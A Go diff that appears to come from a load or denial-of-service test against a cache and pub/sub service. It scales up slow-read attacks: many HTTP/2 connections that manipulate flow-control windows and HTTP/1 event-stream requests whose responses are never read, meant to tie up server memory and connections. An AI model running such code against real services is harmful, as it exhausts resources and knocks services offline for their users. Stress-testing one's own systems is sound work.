@@ -101,19 +101,20 @@ func unread(ctx context.Context, v *victim) {
 	item := &cachepb.SetRequest{CacheKey: []byte("large"), CacheBody: make([]byte, 4<<20), TtlMilliseconds: 600_000}
 	put(ctx, v, item)
 	_ = conn.Close()
-	crowd(sized(4, 40), func(i int) {
+	crowd(sized(40, 400), func(i int) {
 		persist(ctx, func() bool {
-			if i%4 == 3 { // over HTTP/1
+			if i%10 > 0 { // over HTTP/1
 				return v.neverRead(ctx)
 			}
 			window := uint32(0)
-			if i%2 == 0 {
+			if i%20 == 0 {
 				window = 1<<31 - 1
 			}
 			r, err := v.rude(ctx, window == 0, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
 			if err != nil {
 				return false
 			}
+			defer func() { _ = r.Close() }()
 			_ = r.framer.WriteWindowUpdate(0, 1<<31-1-65_535)
 			for range 500 {
 				if r.call(cachepb.Scs_Get_FullMethodName, v.key, &cachepb.GetRequest{CacheKey: []byte("large")}) != nil || r.out.Flush() != nil {
@@ -145,10 +146,11 @@ func (v *victim) neverRead(ctx context.Context) bool {
 		if err != nil {
 			return false
 		}
+		defer func() { _ = conn.Close() }()
 		v.tries.Add(1)
 		_, _ = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\nAccept: text/event-stream\r\n\r\n", path, v.Addr, v.key)
 	}
-	return rest(ctx, 10*time.Millisecond)
+	return rest(ctx, time.Minute)
 }
 
 // topics publishes once to each of very many topics, and subscribes to very many.
